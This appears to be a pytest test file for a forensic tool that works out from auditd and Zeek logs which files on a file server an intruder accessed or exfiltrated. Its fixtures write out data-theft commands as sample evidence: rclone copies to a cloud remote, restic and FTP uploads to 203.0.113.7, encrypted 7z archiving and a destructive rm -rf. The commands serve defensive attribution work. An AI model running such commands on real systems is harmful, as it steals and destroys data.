"""Commands replayed over what is held, through the whole judge. The hostile ones run on the file server itself."""

import json
from pathlib import Path

import pytest

from purloined import explain, flow
from tests.small_case import TOML, judge, judged, make, rows_of, samba, verdicts

BRACKET, NOZZLE = "Northwind/bracket.step", "Northwind/nozzle.step"
VALVE, FLANGE, PHOTO = "Orrery/valve.step", "Orrery/flange.step", "Orrery/old/photo.JPG"
ALL = (BRACKET, NOZZLE, VALVE, FLANGE, PHOTO)
INVENTORY = f"""path,size,mtime
{BRACKET},100000,2026-02-20T00:00:00Z
{NOZZLE},200000,2025-01-01T00:00:00Z
{VALVE},300000,2026-02-20T00:00:00Z
{FLANGE},400000,2025-01-01T00:00:00Z
{PHOTO},500000,2026-02-20T00:00:00Z
"""
REPLAY = (
    TOML.replace('access = ["smb"]', 'access = ["smb"]\nshares = { parts = "/srv/parts" }')
    + """
[[hostile]]
account = "1001"
[[vouched]]
account = "1002"
"""
)
THIEF, STAFF, SOMEONE = "1001", "1002", "1003"
NOON = 1772366400  # 2026-03-01 12:00:00 UTC


def started(words: str, who: str = THIEF, cwd: str = "/root", at: int = NOON, serial: int = 100) -> str:
    """auditd's records of one program started; words are parted by blanks, a blank within one is written `~`."""
    given = [word.replace("~", " ") for word in words.split()]
    stamp = f"msg=audit({at}.000:{serial})"
    arguments = " ".join(f"a{at}={word.encode().hex().upper()}" for at, word in enumerate(given))
    return (
        f"node=fs01 type=SYSCALL {stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=1 a2=1 a3=0 items=2 "
        f'ppid=1 pid=77 auid={who} uid={who} euid={who} fsuid={who} comm="x" exe="/usr/bin/x" key="exec"\n'
        f"node=fs01 type=EXECVE {stamp}: argc={len(given)} {arguments}\n"
        f'node=fs01 type=CWD {stamp}: cwd="{cwd}"\n'
        f"node=fs01 type=EOE {stamp}: \n"
    )


def left(count: int, to: str = "203.0.113.7", at: int = NOON + 5) -> str:
    """One connection of Zeek's from the file server outwards."""
    return json.dumps({
        "ts": at, "uid": "C1", "id.orig_h": "10.0.5.10", "id.orig_p": 4000, "id.resp_h": to, "id.resp_p": 443,
        "proto": "tcp", "service": "ssl", "duration": 60.0, "orig_bytes": count, "resp_bytes": 900, "conn_state": "SF",
        "missed_bytes": 0, "history": "ShADadfF", "orig_pkts": 900, "orig_ip_bytes": count, "resp_pkts": 90,
        "resp_ip_bytes": 900,
    }) + "\n"  # fmt: skip


def ftp_put(name: str, size: int, at: int = NOON + 600) -> str:
    """Zeek's record of a file put on a server by FTP."""
    return json.dumps({
        "ts": at, "uid": "C2", "id.orig_h": "10.0.5.10", "id.orig_p": 4001, "id.resp_h": "203.0.113.7", "id.resp_p": 21,
        "user": "x", "password": "<hidden>", "command": "STOR", "arg": f"ftp://203.0.113.7/in/{name}",
        "file_size": size, "reply_code": 226, "reply_msg": "ok",
    }) + "\n"  # fmt: skip


def of(tmp_path: Path, execs: str, toml: str = REPLAY, **more: str) -> dict[str, str]:
    """path -> verdict, where nothing but these commands happened."""
    files = {"inventory.csv": INVENTORY, "audit.log": samba(), "execs.txt": execs}
    return verdicts(
        judge(tmp_path, files | {name.replace("_json", ".json"): text for name, text in more.items()}, toml)
    )


def expect(selected: tuple[str, ...], verdict: str, others: str = "ruled_out A") -> dict[str, str]:
    """The selected files with that verdict, all others as they would have been without the command."""
    return dict.fromkeys(ALL, others) | dict.fromkeys(selected, verdict)


COPY = "rclone copy /srv/parts mega:x --exclude *.{jpg,JPG} --max-age 60d"  # selects the bracket and the valve


def test_without_commands_nothing_changes(tmp_path: Path) -> None:
    """A program that takes nothing is no command."""
    assert of(tmp_path, started("ls -l /srv/parts")) == expect((), "")


def test_a_hostile_command_makes_what_it_selects_accessed(tmp_path: Path) -> None:
    """Exactly what its filters let through."""
    assert of(tmp_path, started(COPY)) == expect((BRACKET, VALVE), "accessed")


def test_as_many_bytes_out_make_it_taken(tmp_path: Path) -> None:
    """400,000 bytes are selected, 410,000 left; the proof of the others falls, since no read of the taken was seen."""
    found = of(tmp_path, started(COPY), conn_json=left(410_000))

    assert found == expect((BRACKET, VALVE), "taken", others="presumed")


@pytest.mark.parametrize(
    ("count", "to"),
    [(300_000, "203.0.113.7"), (4_000_000, "203.0.113.7"), (410_000, "10.0.5.99")],
    ids=["too few bytes left", "many more left, to nobody known", "they stayed in the house"],
)
def test_other_bytes_out_do_not(tmp_path: Path, count: int, to: str) -> None:
    """The files stay accessed."""
    assert of(tmp_path, started(COPY), conn_json=left(count, to)) == expect((BRACKET, VALVE), "accessed")


def test_more_bytes_to_a_hostile_destination_do(tmp_path: Path) -> None:
    """Other things went there too; these among them."""
    toml = REPLAY + '[[hostile]]\ndestination = "203.0.113.7"\n'
    found = of(tmp_path, started(COPY), toml, conn_json=left(4_000_000))

    assert [found[BRACKET], found[VALVE], found[NOZZLE]] == ["taken", "taken", "presumed"]


def test_bytes_that_left_before_the_command_are_not_its_own(tmp_path: Path) -> None:
    """An hour earlier."""
    found = of(tmp_path, started(COPY), conn_json=left(410_000, at=NOON - 3600))

    assert found == expect((BRACKET, VALVE), "accessed")


@pytest.mark.parametrize(
    "more",
    ["--files-from list.txt", "--new-option", "--include-from list.txt"],
)
def test_a_command_whose_words_do_not_tell_doubts_all_in_its_reach(tmp_path: Path, more: str) -> None:
    """All below its root, whatever its other filters say; and no more than that."""
    found = of(tmp_path, started(f"rclone copy /srv/parts/Orrery mega:x --exclude *.step {more}"))

    assert found == expect((VALVE, FLANGE, PHOTO), "presumed")


def test_a_command_that_may_have_been_cut_short_doubts_what_it_selects(tmp_path: Path) -> None:
    """Which of them went is not known."""
    assert of(tmp_path, started(COPY + " --max-transfer 100k")) == expect((BRACKET, VALVE), "presumed")


def test_a_trial_run_takes_nothing_and_is_listed(tmp_path: Path) -> None:
    """--dry-run."""
    case = judged(make(tmp_path, {"inventory.csv": INVENTORY, "audit.log": samba(),
                                  "execs.txt": started(COPY + " --dry-run")}, REPLAY))  # fmt: skip
    found = rows_of(case, "SELECT * FROM verdicts", "path")

    assert verdicts(found) == expect((), "")
    assert rows_of(case, "SELECT * FROM commands", "tool")["rclone"]["does"] == "nothing"


def test_a_vouched_command_is_work(tmp_path: Path) -> None:
    """The same command by the backup."""
    assert of(tmp_path, started(COPY, STAFF), conn_json=left(410_000)) == expect((), "")


def test_a_command_to_a_vouched_destination_is_work_unless_the_thief_started_it(tmp_path: Path) -> None:
    """The destination stands in the command and in the flows."""
    toml = REPLAY + '[[vouched]]\ndestination = "203.0.113.7"\n'
    words = "restic -r sftp:x@203.0.113.7:/r backup /srv/parts/Orrery"

    assert of(tmp_path / "1", started(words, SOMEONE), toml, conn_json=left(410_000)) == expect((), "")
    found = of(tmp_path / "2", started(words, THIEF), toml, conn_json=left(410_000))
    assert found == expect((VALVE, FLANGE, PHOTO), "accessed")


def test_a_command_of_someone_unknown_is_a_doubt(tmp_path: Path) -> None:
    """Neither evidence nor nothing."""
    assert of(tmp_path, started(COPY, SOMEONE), conn_json=left(410_000)) == expect((BRACKET, VALVE), "presumed")


def test_of_someone_unknown_only_commands_in_the_window_count(tmp_path: Path) -> None:
    """Two days before, it was another matter."""
    assert of(tmp_path, started(COPY, SOMEONE, at=NOON - 172800)) == expect((), "")


def test_an_archive_made_by_a_hostile_command_and_sent_makes_its_members_taken(tmp_path: Path) -> None:
    """The sending names the archive only."""
    execs = started("7z a -pSecret -mhe=on /var/tmp/or.7z /srv/parts/Orrery -xr!*.JPG")
    found = of(tmp_path, execs, ftp_json=ftp_put("or.7z", 500_000))

    assert found == expect((VALVE, FLANGE), "taken", others="presumed")


def test_an_archive_that_was_not_sent_leaves_them_accessed(tmp_path: Path) -> None:
    """Or was sent under another name, or before it was made."""
    execs = started("zip -r /var/tmp/or.zip /srv/parts/Orrery")
    other, early = ftp_put("x.zip", 500_000), ftp_put("or.zip", 500_000, at=NOON - 7200)

    assert of(tmp_path / "1", execs) == expect((VALVE, FLANGE, PHOTO), "accessed")
    assert of(tmp_path / "2", execs, ftp_json=other) == expect((VALVE, FLANGE, PHOTO), "accessed")
    assert of(tmp_path / "3", execs, ftp_json=early) == expect((VALVE, FLANGE, PHOTO), "accessed")


def test_a_volume_of_the_archive_is_the_archive(tmp_path: Path) -> None:
    """7z -v1m makes or.7z.001 and so on."""
    execs = started("7z a -v1m or.7z Orrery", cwd="/srv/parts")

    assert of(tmp_path, execs, ftp_json=ftp_put("or.7z.001", 500_000))[VALVE] == "taken"


def test_a_shell_is_looked_into(tmp_path: Path) -> None:
    """With the folder it went to."""
    execs = started("bash -c cd~/srv/parts~&&~tar~czf~/tmp/n.tgz~Northwind;~rm~-rf~x")

    assert of(tmp_path, execs) == expect((BRACKET, NOZZLE), "accessed")


def test_a_command_that_only_the_shell_could_work_out_is_a_doubt(tmp_path: Path) -> None:
    """A variable, and a condition. A variable that stands for a root may be anything."""
    execs = started("sh -c test~-d~/srv/parts/Orrery~&&~tar~czf~$X~/srv/parts/Orrery")

    assert of(tmp_path / "1", execs) == expect((VALVE, FLANGE, PHOTO), "presumed")
    assert of(tmp_path / "2", started("sh -c tar~czf~/tmp/n.tgz~$X")) == expect(ALL, "presumed")


def test_the_start_of_the_tool_itself_outweighs_what_the_shell_was_told(tmp_path: Path) -> None:
    """The shell put in the names; the log has what tar got."""
    told = started("sh -c tar~czf~/tmp/n.tgz~/srv/parts/N*")
    itself = started("tar czf /tmp/n.tgz /srv/parts/Northwind", at=NOON + 1, serial=101)

    assert of(tmp_path / "1", told) == expect(ALL, "presumed")
    assert of(tmp_path / "2", told + itself) == expect((BRACKET, NOZZLE), "accessed")


def test_where_the_reads_of_a_command_were_seen_the_rest_is_known_as_well(tmp_path: Path) -> None:
    """A list at hand only for the thief: the Samba log shows that he then read one file, and no more."""
    files = {
        "inventory.csv": INVENTORY,
        "audit.log": samba(f"12:00:30|thief|pread_send|{VALVE}"),
        "execs.txt": started("rclone copy /srv/parts mega:x --files-from list.txt"),
    }
    assert verdicts(judge(tmp_path / "1", files, REPLAY)) == expect((VALVE,), "accessed")
    files["audit.log"] = samba(f"11:00:30|thief|pread_send|{VALVE}")
    assert verdicts(judge(tmp_path / "2", files, REPLAY)) == expect((VALVE,), "accessed", others="presumed")


@pytest.mark.parametrize(
    ("root", "selected"),
    [
        ("/srv/parts/Northwind", (BRACKET, NOZZLE)),
        ("/srv/parts/Northwind/", (BRACKET, NOZZLE)),
        ("/srv/parts/./Orrery/../northwind", (BRACKET, NOZZLE)),
        ("/srv/parts/Orrery/old/photo.JPG", (PHOTO,)),
        ("/srv", ALL),
        ("/", ALL),
        ("/opt/tools", ()),
    ],
)
def test_a_local_root_is_found_by_the_shares_of_its_host(tmp_path: Path, root: str, selected: tuple) -> None:
    """As case.toml states them; upper and lower case do not matter here."""
    assert of(tmp_path, started(f"tar czf /tmp/x.tgz {root}")) == expect(selected, "accessed")


def test_without_stated_shares_the_names_in_the_logs_tie_the_roots(tmp_path: Path) -> None:
    """Staff reads below /srv/parts in the Samba log."""
    toml = REPLAY.replace('shares = { parts = "/srv/parts" }', "")

    assert of(tmp_path, started("tar czf /tmp/x.tgz /srv/parts/Northwind"), toml) == expect(
        (BRACKET, NOZZLE), "accessed"
    )


def test_a_path_of_nowhere_that_ends_like_a_held_folder_is_a_doubt(tmp_path: Path) -> None:
    """It may be a copy."""
    assert of(tmp_path, started("tar czf /tmp/x.tgz /var/stage/Northwind")) == expect((BRACKET, NOZZLE), "presumed")


def test_a_relative_root_lies_in_the_folder_the_command_was_started_in(tmp_path: Path) -> None:
    """As auditd tells it."""
    assert of(tmp_path, started("tar czf /tmp/x.tgz old", cwd="/srv/parts/Orrery")) == expect((PHOTO,), "accessed")


def test_a_file_changed_after_the_command_may_have_been_older_then(tmp_path: Path) -> None:
    """--min-age would leave it out as it is now, but not as it may have been."""
    inventory = INVENTORY.replace(f"{BRACKET},100000,2026-02-20", f"{BRACKET},100000,2026-03-05")
    files = {
        "inventory.csv": inventory,
        "audit.log": samba(),
        "execs.txt": started("rclone copy /srv/parts m: --min-age 300d"),
    }
    found = verdicts(judge(tmp_path, files, REPLAY))

    assert found == expect((NOZZLE, FLANGE), "accessed") | {BRACKET: "presumed"}


def test_two_inventories_that_differ_in_a_size_leave_a_filter_by_size_open(tmp_path: Path) -> None:
    """One says 100,000 bytes, the other 5."""
    other = f"path,size\n{BRACKET},5\n"
    files = {"inventory.csv": INVENTORY, "second.csv": other, "audit.log": samba(),
             "execs.txt": started("rclone copy /srv/parts m: --max-size 150k")}  # fmt: skip

    assert verdicts(judge(tmp_path, files, REPLAY))[BRACKET] == "presumed"


def test_a_hostile_command_outside_the_window_says_the_window_is_wrong(tmp_path: Path) -> None:
    """A theft after its end: nothing is ruled out."""
    found = of(tmp_path, started("tar czf /tmp/x.tgz /srv/parts/Northwind", at=NOON + 86400))

    assert found == expect((BRACKET, NOZZLE), "accessed", others="presumed")


LADDER = ("ruled_out A", "ruled_out B", "presumed", "accessed", "taken", "published")


@pytest.mark.parametrize("who", [THIEF, SOMEONE, STAFF])
@pytest.mark.parametrize(
    "words",
    [
        COPY,
        "rclone copy . x:",
        "tar cz / --exclude-vcs",
        "7z a x.7z -r *.step",
        "zip x",
        "7z",
        "rclone copy /srv/parts D:x -n",
    ],
)
def test_a_command_never_lowers_a_verdict(tmp_path: Path, who: str, words: str) -> None:
    """Whoever started it, whatever it says."""
    reads = samba(f"10:00:00|thief|pread_send|{NOZZLE}", f"11:00:00|other|pread_send|{VALVE}")
    files = {"inventory.csv": INVENTORY, "audit.log": reads, "conn.json": left(410_000)}
    before = verdicts(judge(tmp_path / "before", files, REPLAY))
    after = verdicts(judge(tmp_path / "after", files | {"execs.txt": started(words, who)}, REPLAY))

    assert all(LADDER.index(after[path]) >= LADDER.index(before[path]) for path in ALL)


def test_the_argument_names_the_command_and_what_left(tmp_path: Path) -> None:
    """`explain` of a file taken by a command."""
    files = {"inventory.csv": INVENTORY, "audit.log": samba(), "execs.txt": started(COPY), "conn.json": left(410_000)}
    case = judged(make(tmp_path, files, REPLAY))
    with flow.opened(case) as engine:
        text = explain.as_text(explain.argument(case, engine, explain.find(engine, BRACKET)))

    said = " ".join(text.split())
    assert "rclone copy /srv/parts mega:x --exclude" in said
    assert "it certainly selects 2 files of 400000 bytes; 410000 bytes went from its host to 203.0.113.7" in said
    assert "account 1001 is hostile" in said
    assert "conn.json:1" in said
